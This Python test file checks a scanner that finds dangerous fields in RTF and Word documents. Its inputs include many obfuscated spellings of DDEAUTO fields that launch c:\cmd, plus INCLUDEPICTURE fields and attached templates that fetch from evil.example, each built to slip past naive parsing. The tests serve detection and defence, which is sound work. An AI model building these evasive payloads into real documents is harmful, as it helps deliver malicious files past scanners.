"""A forbidden field is found however its words are cut, and ordinary fields stay clean."""

import pytest

from referrals.inspecting.findings import Outcome, worst
from referrals.inspecting.rtf import inspect_rtf
from referrals.inspecting.word import inspect_word
from tests.sample_files import docx, field, relation, rtf, rtf_object
from tests.timing import processor_seconds

FOREIGN = 'xmlns:zz="urn:zz" mc:Ignorable="zz"'
BEGIN, SEPARATE, END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)
PICTURE = r'INCLUDEPICTURE "\\\\\\\\evil.example\\\\s\\\\a.png" \\d'


def in_rtf(words):
    return inspect_rtf(rtf(rf"{{\field{{\*\fldinst {words}}}{{\fldrslt x}}}}")).codes


def words(text, tag="instrText"):
    return f"<w:r><w:{tag}>{text}</w:{tag}></w:r>"


def in_word(*pieces):
    body = "".join(pieces)
    return inspect_word(docx(body=f"<w:p {FOREIGN}>{body}</w:p>")).codes


RTF_SPELLINGS = {
    "stand-in by its number": r"\u68\'3f\u68\'3f\u69\'3fAUTO c:\\cmd",
    "stand-in of a letter": r"\u68 X\u68 X\u69 XAUTO c:\\cmd",
    "two stand-ins": r"\uc2\u68 XY\u68 X\'3f\u69 ??AUTO c:\\cmd",
    "no stand-in": r"\uc0\u68 \u68 \u69 AUTO c:\\cmd",
    "numbers of a symbol font": r"\u61508?\u61508?\u61509?AUTO c:\\cmd",
    "a letter that is not seen": r"D\u8203?DEAUTO c:\\cmd",
    "a group to ignore": r"D{\*\zz x}DEAUTO c:\\cmd",
    "a group in a group to ignore": r"D{\*\zz {x}{\b y}}DEAUTO c:\\cmd",
    "a known group to ignore": r"D{\*\bkmkstart x}DEAUTO c:\\cmd",
    "a group without a star": r"D{\info x}DEAUTO c:\\cmd",
    "a picture": r"{\pict\wmetafile8 D}DDEAUTO c:\\cmd",
    "bytes as they are": r"D{\bin3 }}x}DEAUTO c:\\cmd",
    "bytes by their number": r"\'44\'44\'45AUTO c:\\cmd",
    "words of layout": r"D\b0 D\b E\i\fs24 AUTO c:\\cmd",
    "a sign of space": r"D\~DEAUTO c:\\cmd",
    "a tab behind the word": r"DDEAUTO\tab c:\\cmd",
    "a paragraph behind the word": r"DDEAUTO\par c:\\cmd",
    "small letters in groups": r"{{\rtlch d}{\ltrch d}}{e}{auto c:\\cmd}",
    "two spellings in one": r"{\upr{x}{\*\ud{DDE}}}AUTO c:\\cmd",
    "a field in a field": r"{\field{\*\fldinst QUOTE 68 68}{\fldrslt x}}EAUTO c:\\cmd",
    "deleted letters": "D{\\deleted x}DEAUTO c:\\\\cmd",
    "an end of line": "D\r\nDEAUTO c:\\\\cmd",
    "a number behind the control word": r"{\fldinst1 DDEAUTO c:\\cmd}",
}


@pytest.mark.parametrize("spelling", RTF_SPELLINGS)
def test_dde_in_rtf_is_found_however_it_is_spelled(spelling):
    assert "dde" in in_rtf(RTF_SPELLINGS[spelling])


@pytest.mark.parametrize(
    "words",
    [
        r"\u73\'3fNCLUDEPICTURE" + PICTURE[14:],
        r"INCLUDE{\*\zz x}" + PICTURE[7:],
        PICTURE.replace("INCLUDEPICTURE ", r"INCLUDEPICTURE\tab "),
        PICTURE.replace('"', r"\'93"),
        r'IF 1=1 {\field{\*\fldinst INCLUDEPICTURE "http://evil.example/a.png"}}',
    ],
)
def test_a_picture_from_elsewhere_in_rtf_is_found(words):
    assert "include_field" in in_rtf(words)


@pytest.mark.parametrize("between", ["{", r"{\*\zz 50}", r"\'50", r"\b "])
def test_a_harmless_object_with_anything_among_its_digits_is_none(between):
    plain = rtf_object("PBrush", b"BM")
    assert inspect_rtf(rtf(plain)).codes == {"ole_picture"}
    assert "package" in inspect_rtf(rtf(plain.replace("0105", "01" + between + "05"))).codes


def test_a_template_and_a_program_behind_a_group_to_ignore_are_found():
    hidden = inspect_rtf(rtf(r"{\*\template {\*\zz c:\\a\\}\\\\evil.example\\t.dotm}")).codes
    assert "remote_template" in hidden
    assert "package" in inspect_rtf(rtf(r"{\object{\*\objclass Pack{\*\ZZ x}age}}")).codes
    assert "package" in inspect_rtf(rtf(r"{\object{\*\objdata 0105{\*\zz 50}0000}}")).codes


@pytest.mark.parametrize(
    "words",
    [
        r'{\rtlch HYPERLINK "https://a.example"}{\rtlch {\*\datafield 00d0c9ea}}',
        r"FORMTEXT {\*\formfield{\fftype0{\*\ffname Text1}{\*\ffdeftext Jo}}}",
        r"{\*\bkmkstart a}PAGE  \\* MERGEFORMAT{\*\bkmkend a}",
        r'HYPERLINK "https://a.example/\u233\'e9"',
        r'DATE \\@ "d MMMM yyyy"',
        r"{\v XE \u8220\'93Hip\u8221\'94}",
    ],
)
def test_an_ordinary_field_of_rtf_is_clean(words):
    assert in_rtf(words) == set()


DDE = "DEAUTO c:\\cmd.exe"
IN_THE_WORD = {
    "foreign words": "<w:r><zz:instrText>x</zz:instrText></w:r>",
    "foreign words of Word inside": f"<zz:any>{words('x')}</zz:any>",
    "a foreign end of the words": '<w:r><zz:fldChar zz:fldCharType="separate"/></w:r>',
    "a foreign element around an end": f"<zz:any>{SEPARATE}</zz:any>",
    "a choice": "<mc:AlternateContent><mc:Choice Requires='zz'>"
    + f"{words('x')}</mc:Choice><mc:Fallback/></mc:AlternateContent>",
    "an end in a choice": "<mc:AlternateContent><mc:Choice Requires='zz'>"
    + f"{SEPARATE}</mc:Choice><mc:Fallback/></mc:AlternateContent>",
    "a fallback": "<mc:AlternateContent><mc:Choice Requires='w14'/>"
    + f"<mc:Fallback>{words('x')}</mc:Fallback></mc:AlternateContent>",
    "deleted words": f"<w:del>{words('x', 'delInstrText')}</w:del>",
    "deleted words by another name": f"<w:del>{words('x')}</w:del>",
    "moved words": f"<w:moveFrom>{words('x')}</w:moveFrom>",
    "a field that ends inside": f"{BEGIN}{words('QUOTE 0')}{END}",
    "text": words("x", "t"),
    "another prefix": '<q:instrText xmlns:q="urn:q">x</q:instrText>',
}


@pytest.mark.parametrize("piece", IN_THE_WORD)
def test_dde_in_word_is_found_whatever_stands_in_its_midst(piece):
    assert "dde" in in_word(BEGIN, words("D"), IN_THE_WORD[piece], words(DDE), END)
    assert "dde" in in_word(BEGIN, IN_THE_WORD[piece], words("D" + DDE), END)


@pytest.mark.parametrize(
    "piece",
    [
        f"<w:ins>{words('D')}</w:ins>",
        words("D", "t"),
        '<w:r><w:sym w:font="Symbol" w:char="F044"/></w:r>',
        f"<zz:any>{words('D')}</zz:any>",
        f"<mc:AlternateContent><mc:Choice>{words('D')}</mc:Choice></mc:AlternateContent>",
    ],
)
def test_a_letter_in_another_element_counts(piece):
    assert "dde" in in_word(BEGIN, words("D"), piece, words("EAUTO c:\\cmd.exe"), END)


@pytest.mark.parametrize(
    "body",
    [
        f"<mc:AlternateContent><mc:Choice Requires='wps'><wps:wsp>{field('PAGE')}</wps:wsp>"
        f"</mc:Choice><mc:Fallback>{field('PAGE')}</mc:Fallback></mc:AlternateContent>",
        f"{BEGIN}{words('REF a')}{SEPARATE}<mc:AlternateContent><mc:Choice/></mc:AlternateContent>"
        f"{words('x', 't')}{END}",
        f"<w:del>{BEGIN}{words('PAGE', 'delInstrText')}{SEPARATE}{END}</w:del>",
        f"<w:ins>{field('HYPERLINK ', '&quot;https://a.example&quot;')}</w:ins>",
        f"{BEGIN}{words('IF 1 = 1 ')}{field('MERGEFIELD a')}{SEPARATE}{words('x', 't')}{END}",
    ],
)
def test_an_ordinary_field_of_word_is_clean(body):
    assert in_word(body) == set()


@pytest.mark.parametrize(
    "target",
    ["%5C%5Cevil%5Ct.dotm", "%255C%255Cevil", "%2F/evil/t", "/\\evil\\t", "ht&#9;tp://evil/t"],
)
def test_an_address_is_judged_by_what_it_stands_for(target):
    codes = inspect_word(docx(relations=relation("attachedTemplate", target))).codes
    assert codes == {"remote_template"}


def test_a_group_to_ignore_anywhere_never_makes_a_field_of_rtf_clean():
    plain = r'INCLUDEPICTURE "http://evil.example/a.png"'
    for group in (r"{\*\zz x}", r"{\*\zz \bin2 }}}", r"{\*\bkmkend x}", r"{\comment x}", "{}"):
        for place in range(len(plain) + 1):
            codes = in_rtf(plain[:place] + group + plain[place:])
            assert worst(codes) > Outcome.MILD, (group, place)


def test_a_foreign_element_anywhere_never_makes_a_field_of_word_clean():
    runs = [BEGIN, *map(words, "DDE"), words(" cmd"), SEPARATE, words("x", "t"), END]
    for piece in IN_THE_WORD.values():
        for place in range(len(runs) + 1):
            codes = in_word(*runs[:place], piece, *runs[place:])
            assert worst(codes) > Outcome.MILD, (piece, place)


@pytest.mark.parametrize(
    "word", [r"{\fldinst \u68 D}", r"{\fldinst{\*\zz ", r"{\fldinst D\tab}", r"\template\uc2\u1"]
)
def test_a_megabyte_of_odd_fields_is_read_in_time(word):
    data = rtf(r"\uc0\uc2\uc3 " + word * (1_000_000 // len(word)))
    assert processor_seconds(lambda: inspect_rtf(data)) < 4


@pytest.mark.parametrize(
    "word", [f"<v:x>{BEGIN}{words('D')}</v:x>", f"<w:ins>{words('D')}</w:ins>", "<v:x/>" + BEGIN]
)
def test_a_megabyte_of_cut_fields_is_read_in_time(word):
    data = docx(body=BEGIN + word * (1_000_000 // len(word)))
    assert processor_seconds(lambda: inspect_word(data)) < 4
